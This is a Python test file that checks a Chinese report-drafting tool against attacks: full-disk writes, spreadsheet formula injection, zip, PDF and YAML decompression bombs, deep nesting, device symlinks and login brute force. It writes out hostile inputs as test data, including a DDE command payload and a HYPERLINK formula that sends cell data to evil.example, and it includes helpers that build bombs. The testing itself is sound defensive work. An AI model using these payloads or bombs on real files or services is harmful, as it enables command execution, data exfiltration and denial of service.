"""Hardening (issue 12, items 4–6, 10–19 and the edge partials): each test replays one attack and asserts it
is held — the old file kept, no formula in a cell we wrote, a bomb refused before it inflates, a Chinese
message with exit 2 instead of a traceback. Memory, time and disk bounds are tested with small inputs and
low limits in a subprocess (``resource.setrlimit``), never with huge files."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import sqlite3
import subprocess
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from assistant.cli import app
from assistant.schema import load_report, read_data_file

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "assistant" / "samples" / "sample_report.yaml"
NOTES = ROOT / "assistant" / "samples" / "sample_notes.md"
XXGK = Path(sys.executable).parent / "xxgk"
runner = CliRunner()
CJK_ERROR = "错误"


def _sample(**update: object) -> object:
    data = read_data_file(SAMPLE)
    data.update(update)
    return load_report(data)


def _run(args: list[str], fsize: int | None = None, env: dict[str, str] | None = None,
         timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """``xxgk`` in a subprocess, optionally with the file-size limit that makes every write past it fail
    (SIGXFSZ ignored, so the write gets EFBIG like a full disk gets ENOSPC)."""

    def limit() -> None:
        if fsize is not None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    full_env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1", **(env or {})}
    return subprocess.run([str(XXGK), *args], capture_output=True, text=True, timeout=timeout, preexec_fn=limit,
                          env=full_env, cwd=ROOT)


def _no_traceback(proc: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in proc.stderr and "Traceback" not in proc.stdout, proc.stderr


# ---------------------------------------------------------------- 4: atomic writes


def test_export_on_full_disk_keeps_the_old_file_and_says_so(tmp_path: Path) -> None:
    target = tmp_path / "report.md"
    target.write_text("GOOD REPORT", encoding="utf-8")
    proc = _run(["export", str(SAMPLE), "-o", str(target), "--force"], fsize=2048)
    _no_traceback(proc)
    assert proc.returncode == 2
    assert "无法写入" in proc.stderr and "原有文件未被改动" in proc.stderr
    assert target.read_text(encoding="utf-8") == "GOOD REPORT"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.md"]  # no temporary file left behind


@pytest.mark.parametrize("suffix", [".docx", ".xlsx", ".html"])
def test_each_export_format_fails_cleanly_on_full_disk(tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"report{suffix}"
    target.write_bytes(b"OLD")
    proc = _run(["export", str(SAMPLE), "-o", str(target), "--force"], fsize=1024)
    _no_traceback(proc)
    assert proc.returncode == 2 and "无法写入" in proc.stderr
    assert target.read_bytes() == b"OLD"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]


def test_next_year_on_full_disk_leaves_no_empty_file(tmp_path: Path) -> None:
    target = tmp_path / "next.yaml"
    proc = _run(["next-year", str(SAMPLE), "-o", str(target)], fsize=256)
    _no_traceback(proc)
    assert proc.returncode == 2 and "无法写入" in proc.stderr
    assert list(tmp_path.iterdir()) == []


def test_atomic_write_keeps_mode_of_the_file_it_replaces(tmp_path: Path) -> None:
    from assistant.fsio import atomic_write_text

    target = tmp_path / "a.md"
    target.write_text("old")
    target.chmod(0o640)
    atomic_write_text(target, "new")
    assert target.read_text() == "new" and (target.stat().st_mode & 0o777) == 0o640
    private = atomic_write_text(tmp_path / "private.md", "x", permissions=0o600)
    assert private.stat().st_mode & 0o777 == 0o600


# ---------------------------------------------------------------- 5, 6: formula injection


HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "@SUM(1)"]


def test_xlsx_export_writes_every_text_as_a_string(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from assistant.render.workbook import write_workbook

    report = _sample(agency=HOSTILE[0], contact={"phone": HOSTILE[1], "address": HOSTILE[2], "email": HOSTILE[3]},
                     raw_cells={"applications.new_requests.total": "=1+2"})
    report = report.model_copy(update={"applications": report.applications.model_copy(
        update={"new_requests": report.applications.new_requests.model_copy(update={"total": None})})})
    out = write_workbook(report, tmp_path / "hostile.xlsx")
    wb = load_workbook(out)
    formulas, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.value)
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    assert formulas == []  # a filled workbook holds values only; hostile text never becomes a formula
    for hostile in HOSTILE:
        assert hostile in texts
    assert "=1+2" in texts
    with zipfile.ZipFile(out) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"cmd|" in xml


def test_template_keeps_only_our_sum_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from assistant.render.workbook import write_template

    wb = load_workbook(write_template(tmp_path / "t.xlsx"))
    formulas = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(str(f).startswith("=SUM(") for f in formulas)


def test_audit_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    from assistant.ingest.audit import AuditSummary, FileResult, write_csv

    summary = AuditSummary(files=[
        FileResult("=evil.txt", "unreadable", reason="-2+3"),
        FileResult("ok.txt", "ok", agency="@SUM(A1)", year=2023, format="2021"),
        FileResult("+x.txt", "warnings", agency="\t=1", year=2023, format="2021",
                   parse_issues=[{"rule": "META", "cell": None, "message": "=HYPERLINK(\"x\")", "raw": None}]),
    ])
    path = write_csv(summary, tmp_path / "audit.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in row]
    assert cells and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    assert "'=evil.txt" in cells and "'@SUM(A1)" in cells and "'+x.txt" in cells


# ---------------------------------------------------------------- 10–13, 19: bounded readers


def test_html_span_amplification_is_refused_before_expanding() -> None:
    from assistant.ingest import ParseError, parse_text

    cell = '<td rowspan="100" colspan="100">1</td>'
    page = "<html><body><h1>某局2023年政府信息公开工作年度报告</h1><table>" + (
        "<tr>" + cell * 30 + "</tr>") * 30 + "</table></body></html>"
    with pytest.raises(ParseError, match="合并单元格"):
        parse_text(page, "html")


def _bomb_zip(member: str, size: int, extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
        with zf.open(member, "w") as fh:
            chunk = b"<a/>" * (1 << 18)  # 1 MB of repeated XML: inflates ~1000x
            for _ in range(size // len(chunk)):
                fh.write(chunk)
    return buf.getvalue()


def test_xlsx_zip_bomb_is_refused_from_its_directory(tmp_path: Path) -> None:
    from assistant.ingest import ParseError, parse_file
    from assistant.render.workbook import WorkbookError, read_workbook

    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(_bomb_zip("xl/worksheets/sheet1.xml", 8 << 20))
    assert bomb.stat().st_size < 100_000
    with pytest.raises(WorkbookError, match="压缩炸弹"):
        read_workbook(bomb)
    with pytest.raises(ParseError, match="压缩炸弹"):
        parse_file(bomb)


def test_docx_zip_bomb_is_refused(tmp_path: Path) -> None:
    from assistant.ingest import ParseError, parse_file

    bomb = tmp_path / "bomb.docx"
    bomb.write_bytes(_bomb_zip("word/document.xml", 8 << 20))
    with pytest.raises(ParseError, match="压缩炸弹"):
        parse_file(bomb)


def _docx_with_span(tmp_path: Path, span: str) -> Path:
    """A Word document with one table whose first cell spans ``span`` columns."""
    import docx

    path = tmp_path / "span.docx"
    document = docx.Document()
    document.add_paragraph("某局2023年政府信息公开工作年度报告")
    document.add_table(rows=2, cols=2)
    buf = io.BytesIO()
    document.save(buf)
    with zipfile.ZipFile(buf) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    xml = parts["word/document.xml"].decode()
    at = xml.index("<w:tcPr>") + len("<w:tcPr>")
    parts["word/document.xml"] = (xml[:at] + f'<w:gridSpan w:val="{span}"/>' + xml[at:]).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def test_docx_with_a_broken_table_gives_a_parse_error_not_a_traceback(tmp_path: Path) -> None:
    from assistant.ingest import ParseError, parse_file

    path = _docx_with_span(tmp_path, "abc")  # python-docx raises ValueError while reading the table
    with pytest.raises(ParseError, match="不是整数"):
        parse_file(path)
    proc = _run(["parse", str(path)])
    _no_traceback(proc)
    assert proc.returncode == 2 and "span.docx" in proc.stderr


def test_docx_column_span_amplification_is_refused(tmp_path: Path) -> None:
    from assistant.ingest import ParseError, parse_file

    path = _docx_with_span(tmp_path, "100000000")  # one cell repeated 10^8 times by python-docx
    assert path.stat().st_size < 50_000
    with pytest.raises(ParseError, match="跨列数异常"):
        parse_file(path)


def _pdf(stream: bytes) -> bytes:
    """A one-page PDF whose content stream is ``stream`` (Flate-compressed)."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = io.BytesIO(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


def _deflate_repeated(piece: bytes, size: int) -> bytes:
    comp = zlib.compressobj(9)
    block = piece * (max(1, (1 << 20) // len(piece)))
    parts = [comp.compress(block) for _ in range(size // len(block))]
    return b"".join(parts) + comp.flush()


def test_pdf_flate_bomb_is_refused_before_pdfminer_inflates_it(tmp_path: Path) -> None:
    from assistant.ingest import ParseError, parse_file

    bomb = tmp_path / "bomb.pdf"
    bomb.write_bytes(_pdf(_deflate_repeated(b"\0", 80 << 20)))
    assert bomb.stat().st_size < 200_000
    with pytest.raises(ParseError, match="压缩炸弹"):
        parse_file(bomb)


def test_audit_gives_each_file_a_time_and_memory_budget(tmp_path: Path) -> None:
    """A file under the bomb bounds that is still endless for pdfminer, and one that needs more memory than the
    budget, are each reported with the reason; the good file of each batch is read; the CSV is written."""
    from assistant.ingest.audit import FileBudget, audit

    good = (ROOT / "tests" / "fixtures" / "one_cell_per_line.txt").read_text(encoding="utf-8")
    slow_dir, hungry_dir = tmp_path / "slow", tmp_path / "hungry"
    for folder in (slow_dir, hungry_dir):
        folder.mkdir()
        (folder / "good.txt").write_text(good, encoding="utf-8")
    slow = slow_dir / "slow.pdf"  # 20 MB of comment lines: within the stream bounds, endless to interpret
    slow.write_bytes(_pdf(_deflate_repeated(b"% just a comment line\n", 20 << 20)))
    hungry = hungry_dir / "hungry.txt"  # 8 MB of one-character lines: ~200 MB as Python strings
    hungry.write_bytes("2023年政府信息公开工作年度报告\n".encode() + b"1\n" * (4 << 20))
    out = tmp_path / "audit.csv"
    timed = audit([slow_dir], out_csv=out, workers=2, budget=FileBudget(seconds=3, memory_bytes=2048 << 20))
    capped = audit([hungry_dir], workers=2, budget=FileBudget(seconds=120, memory_bytes=96 << 20))
    by_name = {Path(f.path).name + str(i): f for i, s in enumerate((timed, capped)) for f in s.files}
    for key in ("good.txt0", "good.txt1"):
        assert by_name[key].status != "unreadable", by_name[key].reason
    assert by_name["slow.pdf0"].status == "unreadable" and "时限" in by_name["slow.pdf0"].reason
    assert by_name["hungry.txt1"].status == "unreadable" and "内存" in by_name["hungry.txt1"].reason
    assert out.exists() and "slow.pdf" in out.read_text(encoding="utf-8-sig")


def test_parse_of_an_endless_file_stops_at_its_deadline(tmp_path: Path) -> None:
    slow = tmp_path / "slow.pdf"
    slow.write_bytes(_pdf(_deflate_repeated(b"% just a comment line\n", 20 << 20)))
    proc = _run(["parse", str(slow), "--timeout", "2"], timeout=60)
    _no_traceback(proc)
    assert proc.returncode == 2 and "读取超过时限（2 秒）" in proc.stderr


def test_an_upload_is_parsed_in_a_child_with_its_own_budget(tmp_path: Path) -> None:
    """The app parses an uploaded report in a child process: a slow or hungry file costs only its request."""
    from assistant.api import parse_file_isolated
    from assistant.ingest import ParseError

    good = parse_file_isolated(ROOT / "tests" / "fixtures" / "one_cell_per_line.txt")
    assert good.report.year
    slow = tmp_path / "slow.pdf"
    slow.write_bytes(_pdf(_deflate_repeated(b"% just a comment line\n", 20 << 20)))
    with pytest.raises(ParseError, match="读取超过时限"):
        parse_file_isolated(slow, seconds=2)
    hungry = tmp_path / "hungry.txt"
    hungry.write_bytes("2023年政府信息公开工作年度报告\n".encode() + b"1\n" * (4 << 20))
    with pytest.raises(ParseError, match="内存上限"):
        parse_file_isolated(hungry, memory_bytes=96 << 20)
    assert resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY  # this process is untouched


def test_a_workbook_upload_is_read_in_a_child_and_its_errors_come_back_whole(tmp_path: Path) -> None:
    from assistant.api import WorkbookError, read_workbook_isolated, write_template, write_workbook

    good = read_workbook_isolated(write_workbook(_sample(), tmp_path / "s.xlsx"))
    assert good.agency == _sample().agency
    with pytest.raises(WorkbookError, match="机关名称") as blank:
        read_workbook_isolated(write_template(tmp_path / "t.xlsx"))
    assert len(blank.value.problems) == 2
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(_bomb_zip("xl/worksheets/sheet1.xml", 8 << 20))
    with pytest.raises(WorkbookError, match="压缩炸弹") as caught:
        read_workbook_isolated(bomb)
    assert caught.value.problems and caught.value.source == "bomb.xlsx"


def test_a_worker_killed_by_the_system_costs_only_its_own_file(tmp_path: Path) -> None:
    """A worker that dies (the OOM killer, a crash in a C library) breaks the process pool; the files it held
    are re-run one by one, so only the killing file is reported and the rest are read."""
    script = textwrap.dedent(f"""
        import importlib, os, signal
        from pathlib import Path
        audit_mod = importlib.import_module("assistant.ingest.audit")
        real = audit_mod.audit_one
        def audit_one(path, *rest):
            if path.endswith("killer.txt"):
                os.kill(os.getpid(), signal.SIGKILL)
            return real(path, *rest)
        audit_mod.audit_one = audit_one  # stands in for a C library crashing in the worker (fork inherits it)
        s = audit_mod.audit([{str(tmp_path)!r}], workers=2)
        for f in sorted(s.files, key=lambda f: f.path):
            print(Path(f.path).name, f.status, f.reason)
    """)
    text = (ROOT / "tests" / "fixtures" / "one_cell_per_line.txt").read_text(encoding="utf-8")
    for name in ("a.txt", "b.txt", "killer.txt", "c.txt"):
        (tmp_path / name).write_text(text, encoding="utf-8")
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr
    lines = dict(line.split(" ", 1) for line in proc.stdout.splitlines())
    assert lines["killer.txt"].startswith("unreadable") and "被系统终止" in lines["killer.txt"]
    assert all(not lines[n].startswith("unreadable") for n in ("a.txt", "b.txt", "c.txt")), lines


def test_a_device_or_a_link_to_it_is_not_read(tmp_path: Path) -> None:
    from assistant.ingest import ParseError, parse_file

    link = tmp_path / "report.txt"
    link.symlink_to("/dev/zero")
    for path in (Path("/dev/zero"), link):
        with pytest.raises(ParseError, match="不是普通文件"):
            parse_file(path)
    doc = tmp_path / "report.yaml"
    doc.symlink_to("/dev/zero")
    result = runner.invoke(app, ["check", str(doc)])
    assert result.exit_code == 2 and "不是普通文件" in result.stderr


# ---------------------------------------------------------------- 14: the store at start-up


def test_damaged_store_is_named_kept_and_replaced_only_on_request(tmp_path: Path) -> None:
    from assistant.drafting import StoreDamagedError, VersionStore

    db = tmp_path / "drafts.sqlite3"
    db.write_bytes(b"this is not a database, but the clerk's file" * 100)
    before = db.read_bytes()
    with pytest.raises(StoreDamagedError, match="已损坏") as caught:
        VersionStore(db)
    assert str(db) in str(caught.value)
    assert db.read_bytes() == before  # never deleted, never overwritten
    proc = _run(["draft", str(NOTES), "--offline"], env={"XXGK_DATA_DIR": str(tmp_path)})
    _no_traceback(proc)
    assert proc.returncode == 2 and "已损坏" in proc.stderr and db.read_bytes() == before
    os.environ["XXGK_NEW_STORE_IF_DAMAGED"] = "1"
    try:
        fresh = VersionStore(db)
    finally:
        del os.environ["XXGK_NEW_STORE_IF_DAMAGED"]
    fresh.save_notes("w", "all", "要点")
    assert fresh.load_notes("w", "all") == "要点"
    kept = [p for p in tmp_path.iterdir() if p.name.startswith("drafts.sqlite3.damaged-")]
    assert len(kept) == 1 and kept[0].read_bytes() == before


def test_store_that_is_a_folder_says_so(tmp_path: Path) -> None:
    from assistant.drafting import StoreError
    from assistant.drafting.storefile import open_store_file

    folder = tmp_path / "drafts.sqlite3"
    folder.mkdir()
    with pytest.raises(StoreError, match="文件夹"):
        open_store_file(folder)


def test_read_only_store_gives_a_chinese_message(tmp_path: Path) -> None:
    """Root ignores file modes, so the read-only case is a read-only connection (what a read-only mount gives)."""
    from assistant.drafting import StoreError, VersionStore
    from assistant.drafting.storefile import store_errors

    db = tmp_path / "drafts.sqlite3"
    VersionStore(db).close()
    ro = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    with pytest.raises(StoreError, match="只读"), store_errors(db):
        ro.execute("CREATE TABLE t (x)")
    ro.close()


def test_full_disk_while_saving_gives_a_chinese_store_error(tmp_path: Path) -> None:
    script = textwrap.dedent(f"""
        import resource, signal, sys
        from pathlib import Path
        from assistant.drafting import StoreError, VersionStore
        store = VersionStore(Path({str(tmp_path / 'drafts.sqlite3')!r}))
        store.save_notes("w", "all", "要点")
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))
        try:
            store.save_notes("w", "all", "长" * 400_000)
        except StoreError as exc:
            print("HELD", exc)
        print("KEPT", store.load_notes("w", "all"))
        store.save_notes("w", "all", "再次保存")  # the store still works after the failed write
        print("AGAIN", store.load_notes("w", "all"))
    """)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr
    assert "HELD 保存失败" in proc.stdout and "磁盘空间不足" in proc.stdout
    assert "KEPT 要点" in proc.stdout and "AGAIN 再次保存" in proc.stdout


# ---------------------------------------------------------------- 15: control characters


def test_control_characters_are_stripped_so_every_export_works(tmp_path: Path) -> None:
    import docx

    from assistant.render import export_report

    report = _sample(agency="某市\x08工业\x1b[31m局", narrative={"overview": "总体\x00情况\x0b良好。\n第二段\x7f。"})
    assert report.agency == "某市工业[31m局" and report.narrative.overview == "总体情况良好。\n第二段。"
    for suffix in (".docx", ".xlsx", ".html", ".md"):
        assert export_report(report, tmp_path / f"r{suffix}", force=True).exists()
    text = "\n".join(p.text for p in docx.Document(str(tmp_path / "r.docx")).paragraphs)
    assert "\x1b" not in text and "\x08" not in text
    edited = report.model_copy()
    edited.agency = "局\x1b"  # assignment is validated too (edits, model replies)
    assert edited.agency == "局"


def test_the_cli_says_when_it_removed_control_characters(tmp_path: Path) -> None:
    data = read_data_file(SAMPLE)
    data["agency"] = "某市\x08工业局"
    data["narrative"]["overview"] = "总体\x1b情况"
    doc = tmp_path / "r.json"
    doc.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    result = runner.invoke(app, ["check", str(doc)])
    assert "已删除“机关名称”中的 1 个控制字符" in result.stderr
    assert "已删除“一、总体情况”中的 1 个控制字符" in result.stderr


# ---------------------------------------------------------------- 16, 17: CLI outputs and nesting


@pytest.mark.parametrize("command", [
    ["parse", "{sample_txt}", "-o", "{dir}"],
    ["next-year", "{sample}", "-o", "{dir}"],
    ["draft", "{notes}", "--offline", "-o", "{dir}.yaml"],
    ["audit", "{sample_txt}", "--out", "{dir}"],
    ["audit", "{sample_txt}", "--html", "{dir}"],
    ["export", "{sample}", "-o", "{dir}.md", "--force"],
])
def test_an_output_that_is_a_folder_fails_before_the_work(tmp_path: Path, command: list[str]) -> None:
    target = tmp_path / "out"
    target.mkdir()
    (tmp_path / "out.yaml").mkdir()
    (tmp_path / "out.md").mkdir()
    txt = ROOT / "tests" / "fixtures" / "one_cell_per_line.txt"
    args = [a.format(sample=SAMPLE, notes=NOTES, dir=target, sample_txt=txt) for a in command]
    result = runner.invoke(app, args)
    assert result.exit_code == 2, result.output
    assert "文件夹" in result.stderr
    assert "已读取" not in result.stderr and "共 " not in result.stdout  # refused before the work


def test_a_folder_as_notes_file_is_an_input_error(tmp_path: Path) -> None:
    result = runner.invoke(app, ["draft", str(tmp_path), "--offline"])
    assert result.exit_code == 2 and "文件夹" in result.stderr


@pytest.mark.parametrize("name,text", [
    ("deep.json", "[" * 50_000 + "]" * 50_000),
    ("deep.yaml", "a: " + "[" * 5_000 + "]" * 5_000),
    ("bomb.yaml", "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8))),
])
def test_deep_or_exploding_documents_are_input_errors_exit_2(tmp_path: Path, name: str, text: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    result = runner.invoke(app, ["check", str(path)])
    assert result.exit_code == 2, result.output
    assert "嵌套层数过深" in result.stderr or "内容过多" in result.stderr
    assert not isinstance(result.exception, RecursionError)


def test_deep_notes_are_a_notes_error(tmp_path: Path) -> None:
    notes = tmp_path / "notes.yaml"
    notes.write_text("overview: " + "[" * 5_000 + "]" * 5_000, encoding="utf-8")
    result = runner.invoke(app, ["draft", str(notes), "--offline"])
    assert result.exit_code == 2 and "嵌套层数过深" in result.stderr


def test_unexpected_failures_never_show_a_traceback(tmp_path: Path) -> None:
    bad = tmp_path / "r.json"
    bad.write_text(json.dumps({"year": 2023, "agency": "局", "narrative": {"overview": "\ud800"}}), encoding="utf-8")
    proc = _run(["export", str(bad), "-o", str(tmp_path / "r.docx"), "--force"])
    _no_traceback(proc)
    assert proc.returncode in (0, 2)


# ---------------------------------------------------------------- 18: long names


def test_a_long_agency_gives_a_safe_file_name(tmp_path: Path) -> None:
    from assistant.render import export_all

    report = _sample(agency="某某省某某市某某区人民政府办公室关于政府信息公开工作的专门机构" * 4, title=None)
    written = export_all(report, tmp_path, force=True, formats=(".docx", ".md", ".xlsx"))
    for path in written.values():
        assert path.exists() and len(path.name.encode("utf-8")) <= 255 and path.parent == tmp_path


def test_write_errors_name_the_file_not_its_folder(tmp_path: Path) -> None:
    from assistant.fsio import WriteFailedError, atomic_write_text

    folder = tmp_path / "secret-workspace-id"
    folder.mkdir()
    (folder / "x.md").mkdir()
    with pytest.raises(WriteFailedError) as caught:
        atomic_write_text(folder / "x.md", "text")
    assert "secret-workspace-id" not in str(caught.value) and "x.md" in str(caught.value)


# ---------------------------------------------------------------- the server's edges


@pytest.fixture
def guarded_server(tmp_path: Path):
    from evidence.gradio_http import ServeProcess

    users = tmp_path / "users.txt"
    users.write_text("# 登录用户\nclerk:correct-horse\nclerk2:battery-staple\n", encoding="utf-8")
    users.chmod(0o600)
    srv = ServeProcess(tmp_path / "data", None, {}, ("--offline", "--auth-file", str(users), "--max-upload-mb", "1"))
    (tmp_path / "data").mkdir()
    srv.start()
    yield srv
    srv.stop()


def test_login_rate_limit_upload_limit_and_users_file(guarded_server) -> None:
    import httpx

    base = guarded_server.url.rstrip("/")
    with httpx.Client(trust_env=False, timeout=10) as http:
        ok = http.post(base + "/login", data={"username": "clerk2", "password": "battery-staple"})
        assert ok.status_code == 200  # the second user of the file logs in
        codes = [http.post(base + "/login", data={"username": "clerk", "password": f"guess{i}"}).status_code
                 for i in range(6)]
        assert codes[:5] == [400] * 5 and codes[5] == 429
        refused = http.post(base + "/login", data={"username": "clerk", "password": "correct-horse"})
        assert refused.status_code == 429 and "登录失败次数过多" in refused.text
        files = [("files", (f"f{i}.txt", b"x" * 900_000, "text/plain")) for i in range(3)]
        big = http.post(base + "/gradio_api/upload", files=files)
        assert big.status_code == 413 and "一次上传合计不得超过" in big.text
        small = http.post(base + "/gradio_api/upload", files=files[:1])  # one file under the limit still passes
        assert small.status_code == 200, small.text


def test_bad_app_secret_is_named_not_blamed_on_the_address(tmp_path: Path) -> None:
    data = tmp_path / "data"
    (data / "app_secret").mkdir(parents=True)
    proc = _run(["serve", "--offline", "--port", "17999"], env={"XXGK_DATA_DIR": str(data)}, timeout=60)
    _no_traceback(proc)
    assert proc.returncode == 2 and "密钥文件" in proc.stderr and "端口" not in proc.stderr


def test_serve_on_a_damaged_store_refuses_and_keeps_it(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "drafts.sqlite3").write_bytes(b"garbage" * 1000)
    proc = _run(["serve", "--offline", "--port", "17998"], env={"XXGK_DATA_DIR": str(data)}, timeout=60)
    _no_traceback(proc)
    assert proc.returncode == 2 and "已损坏" in proc.stderr
    assert (data / "drafts.sqlite3").read_bytes() == b"garbage" * 1000
    with pytest.raises(sqlite3.DatabaseError):
        sqlite3.connect(data / "drafts.sqlite3").execute("PRAGMA schema_version").fetchone()
    from evidence.gradio_http import ServeProcess

    srv = ServeProcess(data, None, {}, ("--offline", "--new-store-if-damaged"))  # the operator agrees: fresh store
    srv.start()
    srv.stop()
    kept = [p for p in data.iterdir() if p.name.startswith("drafts.sqlite3.damaged-")]
    assert len(kept) == 1 and kept[0].read_bytes() == b"garbage" * 1000


def test_app_export_of_a_long_agency_has_a_short_name_and_no_server_path(tmp_path: Path) -> None:
    from assistant.app.tab_preview import export_file
    from assistant.app.workspace import Workspace
    from assistant.drafting import VersionStore

    with VersionStore(tmp_path / "drafts.sqlite3") as store:
        space, _ = Workspace.open(store, None)
        space.save_report(_sample(agency="某某省某某市某某区人民政府办公室政府信息公开工作专门机构" * 5))
        path = export_file(space, "docx")
    assert path.exists() and len(path.name.encode("utf-8")) <= 255 and path.name.endswith(".docx")


def test_app_import_of_a_published_report_goes_through_the_child(tmp_path: Path) -> None:
    """The app's 从上年度报告导入 parses in the bounded child and still gives next year's document."""
    from assistant.app.tab_stats import import_file
    from assistant.app.workspace import Workspace
    from assistant.drafting import VersionStore

    with VersionStore(tmp_path / "drafts.sqlite3") as store:
        space, _ = Workspace.open(store, None)
        report, message = import_file(space, str(ROOT / "tests" / "fixtures" / "one_cell_per_line.txt"), "report")
    assert "年度报告" in message and report.previous_year is not None


def test_upload_errors_on_the_page_carry_no_server_folder(tmp_path: Path) -> None:
    from assistant.fsio import public_message
    from assistant.ingest import ParseError, parse_file

    upload = tmp_path / "gradio" / "0123abcdef" / "上年报告.pdf"
    upload.parent.mkdir(parents=True)
    upload.write_bytes(b"%PDF-1.4 not really")
    try:
        parse_file(upload)
    except ParseError as exc:
        shown = public_message(exc, upload)
    assert "0123abcdef" not in shown and str(tmp_path) not in shown
    missing = public_message(FileNotFoundError(2, "No such file or directory", str(upload)), upload)
    assert missing == "文件或所在文件夹不存在" and "0123abcdef" not in missing


def test_upload_of_a_published_report_in_the_running_server(tmp_path: Path) -> None:
    """Through `xxgk serve`: the upload passes the guard, the report is parsed in the fork-server child, and
    the page gets next year's document; an upload that is no report gets a Chinese reason without folders."""
    import httpx
    from evidence.gradio_http import AppClient, ServeProcess

    (tmp_path / "data").mkdir()
    srv = ServeProcess(tmp_path / "data", None, {}, ("--offline",))
    srv.start()
    try:
        client = AppClient(srv.url)
        ws = str(client.call("load", [""]).output[0])  # type: ignore[index]

        def upload(name: str, data: bytes) -> str:
            with httpx.Client(trust_env=False, timeout=30) as http:
                sent = http.post(srv.url.rstrip("/") + "/gradio_api/upload", files=[("files", (name, data))])
            assert sent.status_code == 200, sent.text
            path = sent.json()[0]
            done = client.call("import_last_year", [ws, {"path": path, "orig_name": name,
                                                         "meta": {"_type": "gradio.FileData"}}], event="upload")
            assert done.success, done.error
            return str(done.output[-1])  # type: ignore[index]

        text = (ROOT / "tests" / "fixtures" / "one_cell_per_line.txt").read_bytes()
        assert "已根据" in upload("上年报告.txt", text)
        refused = upload("坏文件.txt", "购物清单：苹果、梨。".encode())
        assert "未完成" in refused and "年度报告" in refused and "gradio" not in refused and str(tmp_path) not in refused
        client.close()
    finally:
        srv.stop()
